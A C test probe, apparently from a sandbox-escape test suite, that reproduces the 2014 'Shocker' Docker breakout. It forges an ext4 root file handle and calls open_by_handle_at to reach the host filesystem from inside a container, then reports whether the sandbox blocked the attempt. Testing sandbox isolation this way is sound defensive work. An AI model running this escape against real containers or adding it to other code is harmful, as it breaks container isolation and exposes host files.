/*
 * Class: open_by_handle_at — open a file by handle, bypassing the path walk.
 * Source: the "Shocker" Docker escape (2014): open_by_handle_at with
 * CAP_DAC_READ_SEARCH opens any inode of a mounted filesystem (e.g. the host's
 * root directory, inode 2 on ext4) from inside a bind mount or chroot.
 * Usage: open_by_handle_at [MOUNT-DIR]   (default "/"). The handle comes from
 * name_to_handle_at(MOUNT-DIR); if that is refused, a forged ext4 root handle
 * (inode 2, generation 0) is used, as Shocker did.
 * BLOCKED: EPERM/EACCES/ENOSYS. ESCAPED: a directory fd was opened, or the call
 * failed on the handle itself (ESTALE/EINVAL: past the capability check).
 */
#define ESCAPE_CLASS "open_by_handle_at"
#include "escape.h"
#include <fcntl.h>
#include <stdint.h>

int main(int argc, char **argv)
{
  const char *dir = argc > 1 ? argv[1] : "/";
  int mfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (mfd < 0) escape_error("open(%s) = -1 %s", dir, escape_errname(errno));
  struct {
    struct file_handle h;
    unsigned char bytes[MAX_HANDLE_SZ];
  } fh;
  memset(&fh, 0, sizeof fh);
  fh.h.handle_bytes = MAX_HANDLE_SZ;
  int mount_id;
  char how[96];
  if (name_to_handle_at(AT_FDCWD, dir, &fh.h, &mount_id, 0) == 0) {
    snprintf(how, sizeof how, "handle of %s from name_to_handle_at", dir);
  } else {
    snprintf(how, sizeof how, "forged ext4 root handle (name_to_handle_at = -1 %s)", escape_errname(errno));
    uint32_t ino_gen[2] = { 2, 0 };
    fh.h.handle_bytes = sizeof ino_gen;
    fh.h.handle_type = 1; /* FILEID_INO32_GEN */
    memcpy(fh.h.f_handle, ino_gen, sizeof ino_gen);
  }
  int fd = open_by_handle_at(mfd, &fh.h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (fd >= 0) escape_escaped("open_by_handle_at(%s) = %d", how, fd);
  int e = errno;
  if (escape_is_policy_errno(e)) escape_blocked("open_by_handle_at(%s) = -1 %s", how, escape_errname(e));
  escape_escaped("open_by_handle_at(%s) = -1 %s (past the capability check)", how, escape_errname(e));
}
